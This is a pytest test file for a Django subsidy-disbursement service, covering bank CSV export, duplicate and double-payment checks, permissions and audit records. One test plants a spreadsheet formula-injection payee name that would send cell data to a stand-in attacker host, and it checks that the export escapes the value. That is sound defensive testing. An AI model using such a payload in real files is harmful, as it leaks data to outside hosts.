import csv
import datetime
import io
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils import timezone

from portal.models import Person
from registration import services as registration
from registration.models import EmploymentRegistration
from subsidies import services
from subsidies.models import Application, Payment, SubsidyType
from subsidies.services import payments
from tests import factories

DOCS = Path(__file__).resolve().parents[2] / "docs"


def insurance_application(seeker, start, months=6):
    return services.submit_application(
        Application(
            subsidy_type=SubsidyType.objects.get(code="social-insurance-graduate"),
            person=seeker.person,
            months=months,
            monthly_base=Decimal("900.10"),
            period_start=start,
        ),
        by=seeker,
    )


@pytest.fixture
def graduate_in_flexible_work(seeker):
    return in_flexible_work(seeker)


def in_flexible_work(seeker):
    factories.make_graduate(seeker.person, year=2025)
    registration.register_self_employment(
        EmploymentRegistration(
            person=seeker.person, kind="flexible", source="self",
            business_name="外卖骑手", start_date=datetime.date(2025, 12, 1),
        ),
        by=seeker,
    )  # fmt: skip
    return seeker


def test_a_batch_totals_to_the_cent_and_pays_once(graduate_in_flexible_work, staff):
    seeker = graduate_in_flexible_work
    application = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    batch, held = payments.create_batch([application], by=staff["payer"])
    assert held == {}
    rows = payments.batch_csv(batch).decode("gb18030").splitlines()
    assert rows[0].startswith("序号,付款流水号,收款人户名,收款账号")
    assert seeker.person.id_number in rows[1]
    assert (
        batch.total == application.amount == Decimal("3600.58")
    )  # 6 x 66.67 % of 900.10
    assert sum(p.amount for p in batch.payments.all()) == batch.total
    with pytest.raises(services.SubsidyError):  # the same application again
        payments.create_batch([application], by=staff["payer"])
    payment = batch.payments.get()
    payments.settle_payment(payment, paid=True, by=staff["payer"])
    application.refresh_from_db()
    assert application.status == "paid"


def test_the_bank_file_shows_a_hostile_payee_name_as_text_and_the_amount_as_a_number(
    graduate_in_flexible_work, staff
):
    seeker = graduate_in_flexible_work
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    Person.objects.filter(pk=seeker.person.pk).update(name=hostile)
    application = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    [header, row] = csv.reader(io.StringIO(payments.batch_csv(batch).decode("gb18030")))
    assert row[0] == "1"
    assert row[2] == "'" + hostile
    assert row[7] == seeker.person.id_number
    assert row[8] == "3600.58" and Decimal(row[8]) == batch.total
    assert row[10] == str(application.code)


def test_a_failed_payment_returns_to_the_queue(graduate_in_flexible_work, staff):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    payments.settle_payment(
        batch.payments.get(), paid=False, by=staff["payer"], reason="账户已销户"
    )
    again, _held = payments.create_batch([application], by=staff["payer"])
    assert again.payments.count() == 1 and again.total == application.amount


def test_the_payers_to_do_opens_the_list_of_approved_applications_not_with_the_bank(
    client, graduate_in_flexible_work, staff
):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )

    def to_pay(user):
        client.force_login(user)
        page = client.get(reverse("admin:index"))
        return next(
            row
            for row in page.context["todo"]
            if row.model_admin.model is Application and row.queue.name == "pay"
        )

    row = to_pay(staff["payer"])
    assert (row.mine, row.read_only, row.opens_list) == (1, False, True)
    the_list = row.first_url
    assert list(client.get(the_list).context["cl"].result_list) == [application]
    batch, _held = payments.create_batch([application], by=staff["payer"])
    row = to_pay(staff["payer"])
    assert row.mine == 0  # with the bank
    assert not client.get(the_list).context["cl"].result_list
    payments.settle_payment(
        batch.payments.get(), paid=False, by=staff["payer"], reason="账户已销户"
    )
    row = to_pay(staff["payer"])
    assert row.mine == 1  # failed: to pay again
    row = to_pay(staff["district"])  # districts follow payment, the city pays
    assert (row.read_only, row.area, row.first_url) == (True, 1, "")


def test_the_applicants_steps_show_the_decision_once_approved_and_all_once_paid(
    graduate_in_flexible_work, staff
):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )

    def reached():
        return [reached for _step, reached in application.progress()]

    # Submitted, the street's and the district's reviews, notice, decision, payment.
    assert reached() == [True, True, True, True, True, False]
    batch, _held = payments.create_batch([application], by=staff["payer"])
    payments.settle_payment(batch.payments.get(), paid=True, by=staff["payer"])
    application.refresh_from_db()
    assert reached() == [True] * 6


def test_a_paid_period_is_never_paid_twice(graduate_in_flexible_work, staff):
    seeker = graduate_in_flexible_work
    first = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    payments.create_batch([first], by=staff["payer"])
    payments.settle_payment(first.payments.get(), paid=True, by=staff["payer"])
    # A second application for months that overlap the paid ones is refused…
    with pytest.raises(services.SubsidyError, match="already claimed|已"):
        insurance_application(seeker, datetime.date(2026, 4, 1), months=6)
    # …one that got past anyway (approved in another way) is held before payment…
    second = Application.objects.get(pk=first.pk)
    second.pk, second.code, second.status = None, uuid.uuid4(), "approved"
    second.period_start = datetime.date(2026, 4, 1)
    second.save()
    with pytest.raises(services.SubsidyError):
        payments.create_batch([second], by=staff["payer"])
    # …and the database refuses the overlapping payment whatever the order.
    with pytest.raises(IntegrityError), transaction.atomic():
        Payment.objects.create(
            batch=first.payments.get().batch, application=second,
            person=second.person, subsidy_type=second.subsidy_type,
            amount=second.amount, period_start=datetime.date(2026, 4, 1),
            period_end=datetime.date(2026, 9, 30),
        )  # fmt: skip
    assert Payment.objects.filter(status="paid").count() == 1


def test_only_city_staff_pay(client, staff, graduate_in_flexible_work):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    url = reverse("admin:subsidies_application_changelist")
    selection = {"action": "pay_selected", "_selected_action": [application.pk]}
    client.force_login(staff["district"])
    client.post(url, selection)
    assert not Payment.objects.exists()
    client.force_login(staff["payer"])
    response = client.post(url, selection, follow=True)
    payment = Payment.objects.get()
    assert response.redirect_chain[-1][0] == reverse(
        "admin:subsidies_disbursementbatch_change", args=[payment.batch.pk]
    )
    # The count and the total, on the batch's page, where the file is.
    assert any(
        "1" in str(m) and "3600.58" in str(m) for m in response.context["messages"]
    )
    assert payment.reference in response.text
    # A batch is only read here: its page leads back to the list, not "Close".
    assert "返回列表" in response.text and ">关闭<" not in response.text


def test_fund_use_per_type_and_unit(graduate_in_flexible_work, staff, foshan):
    from subsidies.queries import fund_use

    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    payments.settle_payment(batch.payments.get(), paid=True, by=staff["payer"])
    today = timezone.localdate()
    [row] = fund_use(foshan["city"], today, today)
    assert (row["applications"], row["approved"], row["people_paid"]) == (1, 1, 1)
    assert row["paid_amount"] == application.amount
    assert fund_use(foshan["nanhai"], today, today) == []


def test_fund_use_of_every_unit_at_once_is_fund_use_of_each_unit(
    graduate_in_flexible_work, other_seeker, staff, foshan
):
    """The statistics read fund_use_by_unit, two queries for all units: each unit
    gets what fund_use gives it, counts and amounts added up from the streets,
    people paid distinct at each level (one person paid in two districts is one
    person in the city)."""
    from portal.models import OrgUnit
    from subsidies.queries import fund_use, fund_use_by_unit

    seeker = graduate_in_flexible_work

    def paid(start, months):
        application = factories.approve_subsidy(
            insurance_application(seeker, start, months=months), staff
        )
        batch, held = payments.create_batch([application], by=staff["payer"])
        assert held == {}
        payments.settle_payment(batch.payments.get(), paid=True, by=staff["payer"])
        return application

    first = paid(datetime.date(2026, 1, 1), 6)
    second = paid(datetime.date(2026, 7, 1), 3)
    # The person moved: the second application was made in the other district.
    Application.objects.filter(pk=second.pk).update(org_unit=foshan["nanhai_street"])
    in_flexible_work(other_seeker)
    insurance_application(other_seeker, datetime.date(2026, 1, 1))  # not approved
    today = timezone.localdate()
    levels = {"city": 4, "district": 6, "street": 9}
    by_unit = fund_use_by_unit(today, today, sorted(levels.values()))
    units = OrgUnit.objects.filter(level__in=levels)
    assert len(units) == 5
    for unit in units:
        assert by_unit.get(unit.descendant_prefix, []) == fund_use(unit, today, today)
    [city] = by_unit[foshan["city"].descendant_prefix]
    assert (city["applications"], city["approved"], city["people_paid"]) == (3, 2, 1)
    assert city["paid_amount"] == first.amount + second.amount
    [nanhai] = by_unit[foshan["nanhai"].descendant_prefix]
    assert (nanhai["applications"], nanhai["people_paid"]) == (2, 1)


def test_look_alike_applications_are_held_for_review_not_rejected(
    graduate_in_flexible_work, staff, foshan
):
    from subsidies.models import DuplicateSuspect
    from subsidies.services import duplicates

    seeker = graduate_in_flexible_work
    twin = factories.make_seeker(
        residence=foshan["chancheng_community"],
        name=seeker.person.name,
        phone=seeker.person.phone,
        id_number=factories.id_number(birth="19900101", sequence=777),
    )
    factories.make_graduate(twin.person, year=2025)
    registration.register_self_employment(
        EmploymentRegistration(
            person=twin.person, kind="flexible", source="self",
            business_name="网约车司机", start_date=datetime.date(2025, 12, 1),
        ),
        by=twin,
    )  # fmt: skip
    first = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    second = insurance_application(twin, datetime.date(2026, 1, 1))
    suspect = DuplicateSuspect.objects.get(application=second)
    assert suspect.other_application == first
    second = factories.approve_subsidy(second, staff)
    batch, held = payments.create_batch([first, second], by=staff["payer"])
    assert list(held) == [second] and batch.payments.count() == 1
    duplicates.resolve_suspect(suspect, duplicate=False, by=staff["payer"])
    again, held = payments.create_batch([second], by=staff["payer"])
    assert held == {} and again.payments.count() == 1


def test_the_ledger_is_never_deleted_in_the_back_office(
    client, graduate_in_flexible_work, staff
):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    client.force_login(factories.make_staff("admin"))
    for name, pk in (
        ("payment", batch.payments.get().pk),
        ("disbursementbatch", batch.pk),
    ):
        url = reverse(f"admin:subsidies_{name}_delete", args=[pk])
        assert client.post(url, {"post": "yes"}).status_code == 403
    assert Payment.objects.count() == 1


def test_the_bank_file_follows_the_documented_layout(graduate_in_flexible_work, staff):
    seeker = graduate_in_flexible_work
    Person.objects.filter(pk=seeker.person.pk).update(name="𠮷田")  # beyond GBK
    application = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    payment = batch.payments.get()
    data = payments.batch_csv(batch)
    assert not data.startswith(b"\xef\xbb\xbf")  # no UTF-8 byte-order mark
    rows = list(csv.reader(io.StringIO(data.decode("gb18030"))))
    documented = (DOCS / "subsidy-disbursement.md").read_text()
    assert "`" + ",".join(rows[0]) + "`" in documented
    assert len(rows) == 2  # one line per payment, no totals line
    assert dict(zip(rows[0], rows[1], strict=True)) == {
        "序号": "1",
        "付款流水号": payment.reference,
        "收款人户名": "𠮷田",
        "收款账号": payment.account.number,
        "账户类型": "社会保障卡",
        "开户行": "中国工商银行",
        "证件类型": "居民身份证",
        "证件号码": seeker.person.id_number,
        "金额": "3600.58",
        "补贴项目": application.subsidy_type.name,
        "申请编号": str(application.code),
    }
    assert payment.reference.startswith("BT")
    assert Payment.pk_from_reference(payment.reference) == payment.pk


def test_the_bank_file_downloads_again_the_same_and_each_download_is_recorded(
    client, graduate_in_flexible_work, staff
):
    from portal.models import AuditEntry

    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    url = reverse("admin:subsidies_disbursementbatch_bank_file", args=[batch.pk])
    client.force_login(staff["payer"])
    assert client.get(url).status_code == 405  # a download is a recorded act
    first, second = client.post(url), client.post(url)
    assert first.content == second.content == payments.batch_csv(batch)
    assert batch.file_name in first["Content-Disposition"]
    assert first["Content-Type"] == "text/csv; charset=gb18030"
    downloads = AuditEntry.objects.filter(action="subsidies.batch.file_downloaded")
    assert [entry.actor for entry in downloads] == [staff["payer"]] * 2
    page = client.get(
        reverse("admin:subsidies_disbursementbatch_change", args=[batch.pk])
    )
    assert page.text.count(staff["payer"].username) >= 2
    client.force_login(staff["city"])
    staff["city"].groups.clear()  # city staff without the permission to pay
    assert client.post(url).status_code == 403
    assert downloads.count() == 2


def test_the_batch_page_lists_each_payment_with_its_state_and_the_totals(
    client, graduate_in_flexible_work, staff, foshan
):
    seeker = graduate_in_flexible_work
    application = factories.approve_subsidy(
        insurance_application(seeker, datetime.date(2026, 1, 1)), staff
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    change = reverse("admin:subsidies_disbursementbatch_change", args=[batch.pk])
    client.force_login(staff["payer"])
    page = client.get(change)
    payment = batch.payments.get()
    assert payment.reference in page.text
    totals = {row["status"]: row for row in page.context["totals"]}
    assert (totals["pending"]["count"], totals["pending"]["amount"]) == (
        1,
        Decimal("3600.58"),
    )
    assert totals["paid"]["count"] == totals["failed"]["count"] == 0
    payments.settle_payment(payment, paid=False, by=staff["payer"], reason="户名不符")
    page = client.get(change)
    assert "户名不符" in page.text
    assert page.context["totals"][2]["amount"] == Decimal("3600.58")
    assert not page.context["may_import"]  # nothing waits for the bank
    again, _held = payments.create_batch([application], by=staff["payer"])
    paid_on = timezone.localdate() - datetime.timedelta(days=1)
    payments.settle_payment(
        again.payments.get(), paid=True, by=staff["payer"], paid_on=paid_on
    )
    page = client.get(
        reverse("admin:subsidies_disbursementbatch_change", args=[again.pk])
    )
    assert page.context["totals"][1]["count"] == 1
    assert str(paid_on.day) in page.text


def test_a_payment_is_found_by_its_reference_in_the_back_office(
    client, graduate_in_flexible_work, staff
):
    application = factories.approve_subsidy(
        insurance_application(graduate_in_flexible_work, datetime.date(2026, 1, 1)),
        staff,
    )
    batch, _held = payments.create_batch([application], by=staff["payer"])
    payment = batch.payments.get()
    client.force_login(staff["payer"])
    url = reverse("admin:subsidies_payment_changelist")
    found = client.get(url, {"q": payment.reference.lower()})
    assert list(found.context["cl"].result_list) == [payment]
    other = "BT" + str(payment.pk + 1).zfill(10)
    assert list(client.get(url, {"q": other}).context["cl"].result_list) == []
